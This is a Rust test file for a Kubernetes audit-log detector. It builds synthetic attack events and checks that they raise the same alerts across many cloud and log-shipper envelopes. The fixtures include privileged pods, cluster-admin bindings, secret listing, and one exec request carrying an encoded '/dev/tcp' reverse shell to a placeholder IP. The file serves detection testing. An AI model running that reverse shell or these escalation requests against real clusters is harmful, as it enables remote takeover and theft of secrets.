//! The same attack gives the same alert, whoever delivers it: a table of attacks and envelopes, and what a cell can not have.
//!
//! Every cell of the table here is wrapped by this file, and marked `*` where it is printed. `templates` puts the attacks into real records of clouds
//! and shippers, `recorded` reads what real programs wrote. `BARTIZAN_PARITY=1 cargo test --test it parity -- --nocapture` prints all three.

mod recorded;
mod templates;

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

use bartizan::app::rules::settings;
use bartizan::detect::{pack, sigma};
use bartizan::model::Event;
use base64::Engine as _;
use serde_json::{Value, json};

use crate::reading::Reading;
use crate::service::setting;

const RECEIVED: &str = "2026-01-01T00:00:10.000005Z";

/// An attack: its name and the events of it.
type Attack = (&'static str, Vec<Value>);

/// What one request was.
struct Request<'a> {
    user: &'a str,
    verb: &'a str,
    /// `group/version/resource[/subresource]`, with `core` for no group.
    what: &'a str,
    namespace: &'a str,
    name: &'a str,
    query: &'a str,
    body: Value,
    code: u16,
}

impl Default for Request<'_> {
    fn default() -> Self {
        Self {
            user: "mallory@example.com",
            verb: "create",
            what: "core/v1/pods",
            namespace: "shop",
            name: "web-0",
            query: "",
            body: Value::Null,
            code: 201,
        }
    }
}

fn audit(request: &Request<'_>) -> Value {
    let parts: Vec<&str> = request.what.split('/').collect();
    let [group, version, resource] = [parts[0], parts[1], parts[2]];
    let subresource = parts.get(3).copied();
    let prefix = if group == "core" { format!("/api/{version}") } else { format!("/apis/{group}/{version}") };
    let namespaced = if request.namespace.is_empty() { String::new() } else { format!("/namespaces/{}", request.namespace) };
    let mut uri = format!("{prefix}{namespaced}/{resource}");
    let mut reference = json!({"resource": resource, "apiVersion": version});
    if !request.name.is_empty() {
        uri.push_str(&format!("/{}", request.name));
        reference["name"] = request.name.into();
    }
    if let Some(subresource) = subresource {
        uri.push_str(&format!("/{subresource}"));
        reference["subresource"] = subresource.into();
    }
    if group != "core" {
        reference["apiGroup"] = group.into();
    }
    if !request.namespace.is_empty() {
        reference["namespace"] = request.namespace.into();
    }
    if !request.query.is_empty() {
        uri.push_str(&format!("?{}", request.query));
    }
    let stage = if request.code == 101 { "ResponseStarted" } else { "ResponseComplete" };
    let mut event = json!({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": "00000000-0000-4000-8000-000000000001", "stage": stage,
        "requestURI": uri, "verb": request.verb, "user": {"username": request.user, "groups": ["ops", "system:authenticated"]}, "sourceIPs": ["203.0.113.7"],
        "userAgent": "kubectl/v1.36.0 (linux/amd64)", "objectRef": reference, "responseStatus": {"metadata": {}, "code": request.code},
        "requestReceivedTimestamp": "2026-01-01T00:00:00.000001Z", "stageTimestamp": "2026-01-01T00:00:00.100000Z",
        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "RBAC: allowed"}});
    if !request.body.is_null() {
        event["requestObject"] = request.body.clone();
    }
    event
}

fn pod(spec: Value) -> Value {
    json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web-0", "namespace": "shop"}, "spec": spec})
}

fn attacks() -> Vec<Attack> {
    let one = |request: Request<'_>| vec![audit(&request)];
    let exec = |query| one(Request { verb: "get", what: "core/v1/pods/exec", query, code: 101, ..Request::default() });
    let rbac = |what, name, body| one(Request { what, name, namespace: "", body, ..Request::default() });
    vec![
        ("exec into a pod", exec("command=sh&container=web&stdin=true&tty=true")),
        ("exec of a reverse shell", exec("command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261&stdin=true")),
        (
            "privileged pod",
            one(Request {
                body: pod(json!({"containers": [{"name": "a", "image": "busybox", "securityContext": {"privileged": true}}]})),
                ..Request::default()
            }),
        ),
        (
            "host path mounted",
            one(Request {
                body: pod(json!({"containers": [{"name": "a", "image": "busybox"}], "volumes": [{"name": "h", "hostPath": {"path": "/etc"}}]})),
                ..Request::default()
            }),
        ),
        (
            "host namespaces",
            one(Request {
                body: pod(json!({"hostPID": true, "hostNetwork": true, "containers": [{"name": "a", "image": "busybox"}]})),
                ..Request::default()
            }),
        ),
        (
            "cluster-admin bound",
            rbac(
                "rbac.authorization.k8s.io/v1/clusterrolebindings",
                "own",
                json!({"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": "cluster-admin", "apiGroup": "rbac.authorization.k8s.io"}, "subjects": [{"kind": "User", "name": "mallory@example.com"}]}),
            ),
        ),
        (
            "role with wildcards",
            rbac(
                "rbac.authorization.k8s.io/v1/clusterroles",
                "all",
                json!({"kind": "ClusterRole", "metadata": {"name": "all"}, "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}),
            ),
        ),
    ]
    .into_iter()
    .chain(more_attacks())
    .collect()
}

fn more_attacks() -> Vec<Attack> {
    let one = |request: Request<'_>| vec![audit(&request)];
    vec![
        ("all secrets listed", one(Request { verb: "list", what: "core/v1/secrets", namespace: "", name: "", code: 200, ..Request::default() })),
        (
            "network policy deleted",
            one(Request { verb: "delete", what: "networking.k8s.io/v1/networkpolicies", name: "default-deny", code: 200, ..Request::default() }),
        ),
        ("events deleted", one(Request { verb: "deletecollection", what: "core/v1/events", name: "", code: 200, ..Request::default() })),
        ("port forwarded", one(Request { verb: "get", what: "core/v1/pods/portforward", code: 101, ..Request::default() })),
        (
            "admission webhook deleted",
            one(Request {
                verb: "delete",
                what: "admissionregistration.k8s.io/v1/validatingwebhookconfigurations",
                namespace: "",
                name: "kyverno-resource-validating-webhook-cfg",
                code: 200,
                ..Request::default()
            }),
        ),
        (
            "namespace deleted",
            one(Request { verb: "delete", what: "core/v1/namespaces", namespace: "", name: "shop", code: 200, ..Request::default() }),
        ),
        ("node proxied", one(Request { verb: "get", what: "core/v1/nodes/proxy", namespace: "", name: "n1", code: 200, ..Request::default() })),
        (
            "ephemeral container",
            one(Request {
                verb: "patch",
                what: "core/v1/pods/ephemeralcontainers",
                body: json!({"spec": {"ephemeralContainers": [{"name": "debugger", "image": "busybox", "targetContainerName": "web"}]}}),
                code: 200,
                ..Request::default()
            }),
        ),
    ]
}

/// One way of delivery: its name, and the payload that it makes of an event.
type Way = (&'static str, fn(&Value) -> String);

const WAYS: &[Way] = &[
    ("native", |event| event.to_string()),
    ("event list", |event| {
        let mut item = event.clone();
        item.as_object_mut().unwrap().retain(|key, _| key != "kind" && key != "apiVersion");
        json!({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "metadata": {}, "items": [item]}).to_string()
    }),
    ("EKS", |event| {
        json!({"messageType": "DATA_MESSAGE", "owner": "123456789012", "logGroup": "/aws/eks/default/cluster", "logStream": "kube-apiserver-audit-0a", "subscriptionFilters": ["all"],
            "logEvents": [{"id": "1", "timestamp": 1_767_225_600_000_i64, "message": event.to_string()}]}).to_string()
    }),
    ("EKS by Firehose", |event| {
        let inner = (WAYS[2].1)(event);
        json!({"requestId": "r", "timestamp": 1_767_225_600_000_i64, "records": [{"data": base64::engine::general_purpose::STANDARD.encode(inner)}]})
            .to_string()
    }),
    ("GKE", |event| gke(event).to_string()),
    ("GKE by Pub/Sub", |event| {
        json!({"message": {"data": base64::engine::general_purpose::STANDARD.encode(gke(event).to_string()), "messageId": "1", "publishTime": RECEIVED}, "subscription": "projects/p/subscriptions/s"}).to_string()
    }),
    ("AKS", |event| {
        json!({"records": [{"category": "kube-audit", "operationName": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read", "time": "2026-01-01T00:00:00.2Z",
            "resourceId": "/SUBSCRIPTIONS/S/RESOURCEGROUPS/G/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/DEFAULT",
            "properties": {"log": event.to_string(), "stream": "stdout", "pod": "kube-apiserver-0", "containerID": "c"}}]}).to_string()
    }),
    ("Yandex trigger", |event| yandex_trigger(&json!({"json_payload": event}))),
    ("Yandex trigger, by message", |event| yandex_trigger(&json!({"message": event.to_string()}))),
    ("Yandex Data Streams", |event| {
        json!({"uid": "u", "resource": {"type": "managed-kubernetes.cluster", "id": "default"}, "timestamp": "2026-01-01T00:00:00.2Z", "ingestedAt": RECEIVED, "level": "INFO", "jsonPayload": event}).to_string()
    }),
    ("Yandex Audit Trails", |event| {
        let mut inner = event.clone();
        inner["responseStatus"]["code"] = inner["responseStatus"]["code"].to_string().into();
        json!([{"event_id": "e", "event_source": "k8s", "event_type": "yandex.cloud.audit.k8s.apiserver.ApiServerCreate", "event_time": "2026-01-01T00:00:00.2Z", "event_status": "DONE",
            "authentication": {"authenticated": true, "subject_type": "USER_ACCOUNT", "subject_id": "aje"}, "details": {"cluster_id": "default", "native_api_server_event": inner}}]).to_string()
    }),
    ("fluent-bit", |event| json!({"date": 1_767_225_600.2, "log": event.to_string(), "stream": "stdout"}).to_string()),
    ("fluent-bit, merged", |event| {
        let mut merged = event.clone();
        merged["date"] = json!(1_767_225_600.2);
        merged["log_processed"] = json!(true);
        merged.to_string()
    }),
    ("vector", |event| {
        json!([{"file": "/var/log/audit.log", "host": "m1", "message": event.to_string(), "source_type": "file", "timestamp": "2026-01-01T00:00:00.2Z"}]).to_string()
    }),
    ("fluentd", |event| format!("2026-01-01T00:00:00+00:00\tkube.audit\t{event}\n")),
    ("filebeat", |event| {
        json!({"@timestamp": "2026-01-01T00:00:00.200Z", "@metadata": {"beat": "filebeat"}, "message": event.to_string(), "log": {"file": {"path": "/var/log/audit.log"}, "offset": 7}, "ecs": {"version": "8.0.0"}}).to_string()
    }),
    ("Splunk's collector", |event| {
        json!({"time": 1_767_225_600.2, "host": "m1", "source": "audit", "sourcetype": "kube:audit", "event": event}).to_string()
    }),
    ("OpenTelemetry", |event| {
        json!({"resourceLogs": [{"resource": {"attributes": []}, "scopeLogs": [{"scope": {}, "logRecords": [{"observedTimeUnixNano": "1767225600200000000", "body": {"stringValue": event.to_string()}}]}]}]}).to_string()
    }),
    ("syslog", |event| format!("<134>1 2026-01-01T00:00:00.2Z m1 audit - - - {event}\n")),
];

fn yandex_trigger(inner: &Value) -> String {
    let mut message = json!({"resource": {"type": "managed-kubernetes.cluster", "id": "default"}, "timestamp": "2026-01-01 00:00:00.200000001 +0000 UTC", "level": "INFO"});
    message.as_object_mut().unwrap().extend(inner.as_object().unwrap().clone());
    json!({"messages": [{"event_metadata": {"event_id": "e", "event_type": "yandex.cloud.events.serverless.triggers.LoggingMessageBatch"}, "details": {"messages": [message]}}]}).to_string()
}

/// What GKE writes of a request: no groups, no stage, no code but gRPC's, an exec's command in its options.
fn gke(event: &Value) -> Value {
    let reference = &event["objectRef"];
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let group = reference["apiGroup"].as_str().unwrap_or("core");
    let called = if group == "core" { "core".to_owned() } else { group.trim_end_matches(".k8s.io").split('.').rev().collect::<Vec<_>>().join(".") };
    let mut method = format!("io.k8s.{called}.{}.{}", text(&reference["apiVersion"]), text(&reference["resource"]));
    let mut object = format!("{group}/{}", text(&reference["apiVersion"]));
    if let Some(namespace) = reference["namespace"].as_str() {
        object.push_str(&format!("/namespaces/{namespace}"));
    }
    object.push_str(&format!("/{}", text(&reference["resource"])));
    for part in ["name", "subresource"] {
        if let Some(part) = reference[part].as_str() {
            object.push_str(&format!("/{part}"));
        }
    }
    if let Some(subresource) = reference["subresource"].as_str() {
        method.push_str(&format!(".{subresource}"));
    }
    method.push_str(&format!(".{}", text(&event["verb"])));
    let mut payload = json!({"@type": "type.googleapis.com/google.cloud.audit.AuditLog", "serviceName": "k8s.io", "methodName": method, "resourceName": object,
        "authenticationInfo": {"principalEmail": event["user"]["username"]}, "authorizationInfo": [{"granted": true, "permission": method, "resource": object}],
        "requestMetadata": {"callerIp": event["sourceIPs"][0], "callerSuppliedUserAgent": event["userAgent"]}, "status": {"code": 0}});
    if let Some(body) = event.get("requestObject") {
        payload["request"] = body.clone();
        payload["request"]["@type"] = "core.k8s.io/v1.Pod".into();
    }
    let uri = text(&event["requestURI"]);
    if reference["subresource"] == "exec" {
        let decoded = |value: &str| percent(&value.replace('+', " "));
        let command: Vec<String> = uri.split(['?', '&']).filter_map(|pair| pair.strip_prefix("command=")).map(decoded).collect();
        payload["request"] = json!({"@type": "core.k8s.io/v1.PodExecOptions", "command": command, "container": "web", "stdin": true, "tty": true});
    }
    json!({"insertId": "i1", "logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity", "labels": event["annotations"], "operation": {"id": "o", "producer": "k8s.io", "first": true, "last": true},
        "protoPayload": payload, "receiveTimestamp": RECEIVED, "resource": {"type": "k8s_cluster", "labels": {"cluster_name": "default", "location": "l", "project_id": "p"}}, "severity": "NOTICE",
        "timestamp": "2026-01-01T00:00:00.000001Z"})
}

fn percent(text: &str) -> String {
    let mut out = Vec::new();
    let mut bytes = text.bytes();
    while let Some(byte) = bytes.next() {
        if byte == b'%' {
            let hex: String = [bytes.next().unwrap(), bytes.next().unwrap()].map(char::from).iter().collect();
            out.push(u8::from_str_radix(&hex, 16).unwrap());
        } else {
            out.push(byte);
        }
    }
    String::from_utf8(out).unwrap()
}

/// Rule and title of every alert of medium and above that payloads raise, and the cluster: who did what to what, and where.
fn alerts(rules: &Arc<bartizan::detect::rule::RuleSet>, payloads: &[String]) -> BTreeSet<(String, String, String)> {
    let mut reading = Reading::of(rules);
    let events: Vec<Event> = payloads.iter().flat_map(|payload| reading.read(payload.as_bytes())).collect();
    let alerts = reading.alerts(&events).into_iter().filter(|alert| alert.rule.level >= bartizan::model::Level::Low);
    alerts.map(|alert| (alert.rule.title.clone(), alert.title.clone(), alert.cluster.as_str().to_owned())).collect()
}

/// What makes a payload of an event.
type Wrap = Box<dyn Fn(&Value) -> String>;

/// Holds every way of delivering every attack against the bare event; prints a row an attack, each cell with a mark behind it.
fn check(ways: &[(&str, Wrap)], mark: char) {
    let rules = Arc::new(sigma::parse(&pack::rules(), &settings(None, false)).0);
    let is_shown = setting("BARTIZAN_PARITY").is_some();
    if is_shown {
        ways.iter().enumerate().for_each(|(at, (way, _))| eprintln!("{:>width$} {way}{mark}", "|", width = 29 + 3 * at));
    }
    let mut differences: BTreeMap<String, String> = BTreeMap::new();
    let mut cells = 0;
    for (attack, events) in attacks() {
        let native = alerts(&rules, &[events[0].to_string()]);
        assert!(!native.is_empty(), "{attack} raises nothing even natively");
        let mut row = format!("{attack:<28}");
        for (way, wrap) in ways {
            cells += 1;
            let got = alerts(&rules, &events.iter().map(wrap).collect::<Vec<_>>());
            row.push_str(&format!("{}{mark} ", if got == native { '=' } else { '~' }));
            if got != native {
                differences.insert(format!("{attack} / {way}"), format!("{got:?}\n      instead of {native:?}"));
            }
        }
        if is_shown {
            eprintln!("{row}");
        }
    }
    eprintln!("{cells} cells, {} differ", differences.len());
    let report: Vec<String> = differences.iter().map(|(cell, what)| format!("{cell}: {what}")).collect();
    assert!(report.is_empty(), "{}", report.join("\n"));
}

#[test]
fn the_same_attack_gives_the_same_alert_from_everywhere() {
    let ways: Vec<(&str, Wrap)> = WAYS.iter().map(|(way, wrap)| (*way, Box::new(*wrap) as Wrap)).collect();
    check(&ways, '*');
}
